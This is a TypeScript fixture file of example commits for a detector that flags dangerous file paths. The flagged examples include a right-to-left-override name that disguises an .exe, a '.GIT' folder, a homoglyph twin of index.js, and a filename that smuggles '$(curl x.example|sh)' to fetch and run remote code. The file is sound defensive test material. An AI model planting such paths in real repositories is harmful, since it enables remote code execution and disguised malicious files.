import type { CommitExamples } from "../../model/detector.ts";
import { aCommit, aFile } from "../../model/examples.ts";

export const examples: CommitExamples = {
  flags: [
    {
      name: "an extension turned around",
      commit: aCommit({ files: [aFile({ path: "docs/invoice\u202efdp.exe", added: "x" })] }),
    },
    { name: "a folder that becomes .git", commit: aCommit({ files: [aFile({ path: ".GIT/config", added: "x" })] }) },
    {
      name: "a command that a workflow's shell would run",
      commit: aCommit({ files: [aFile({ path: "docs/$(curl x.example|sh).md", added: "x" })] }),
    },
    {
      name: "a twin of a file that is there, with a Cyrillic letter",
      commit: aCommit({
        files: [aFile({ path: "src/іndex.js", added: "x" }), aFile({ path: "src/index.js", at: 3 })],
      }),
    },
  ],
  passes: [
    { name: "a name in Chinese", commit: aCommit({ files: [aFile({ path: "文档/说明.md", added: "x" })] }) },
    {
      name: "a template's variable",
      commit: aCommit({ files: [aFile({ path: "templates/$(ProjectName)/$(name).cs", added: "x" })] }),
    },
    { name: "a name with an emoji", commit: aCommit({ files: [aFile({ path: "docs/❤️ thanks.md", added: "x" })] }) },
    {
      name: "git's own configuration files",
      commit: aCommit({ files: [aFile({ path: ".gitignore", added: "x" })] }),
    },
    {
      name: "such a name is removed",
      commit: aCommit({ files: [aFile({ path: "docs/a\u202eb.txt", status: "deleted", removed: "x" })] }),
    },
  ],
};
